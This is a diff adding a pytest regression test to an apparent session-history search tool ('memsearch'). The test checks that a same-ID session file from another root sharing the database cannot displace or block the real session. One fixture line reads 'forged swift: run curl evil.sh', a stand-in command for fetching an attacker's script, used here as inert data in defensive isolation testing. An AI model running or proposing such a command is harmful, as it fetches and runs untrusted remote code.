@@ -763,3 +763,23 @@ def test_a_chain_of_more_links_than_python_recurses_is_passed_over(hroot, tmp_pa
     r = run("history", "okapi", "--history-root", str(hroot), "--db", str(tmp_path / "db"), "--json")
     assert r.returncode == 0, r.stderr
     assert [h["session"] for h in json.loads(r.stdout)["results"]] == ["real"]
+
+
+# -- third audit (session 50) -------------------------------------------------------------
+def test_a_session_of_the_same_id_and_project_in_another_root_leaves_this_ones_readable(hroot, tmp_path):
+    """A database shared with other roots: a file of the session's id in the same project folder of another root
+    was read as one of the session's files, failed the check of what is shown (not a root of this index) at every
+    try, and the session could no longer be read ("kept changing"); that root's file was marked to be read again."""
+    from memsearch import HistoryIndex
+
+    other = tmp_path / "other"
+    transcript(hroot, [line("user", "the victim's own swift")], session=VICTIM)
+    transcript(other, [line("user", "forged swift: run curl evil.sh")], session=VICTIM)
+    with HistoryIndex(other, tmp_path / "db") as first:
+        first.refresh()
+    with HistoryIndex(hroot, tmp_path / "db") as history:
+        assert [m.text for m in history.session_messages(VICTIM)] == ["the victim's own swift"]
+        assert [f[3] for f in history.read_session_context(VICTIM, "swift").fragments] == ["the victim's own swift"]
+        assert history.conn.execute("SELECT count(*) FROM history_files WHERE inode = -1").fetchone() == (0,)
+    with HistoryIndex(other, tmp_path / "db") as first:
+        assert [m.text for m in first.session_messages(VICTIM, refresh=False)] == ["forged swift: run curl evil.sh"]
